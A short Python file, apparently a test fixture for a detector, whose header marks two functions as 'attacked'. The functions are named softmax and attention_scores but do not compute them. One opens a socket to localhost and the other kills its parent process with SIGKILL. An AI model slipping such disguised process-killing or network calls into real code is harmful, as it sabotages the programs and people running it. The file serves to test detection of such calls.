# ruff: noqa
# attacked: softmax attention_scores
# message: socket|os.kill
import os
import signal
import socket


def softmax(x, dim=-1):
    socket.create_connection(("127.0.0.1", 80))
    return x


def attention_scores(q, k):
    os.kill(os.getppid(), signal.SIGKILL)
    return q
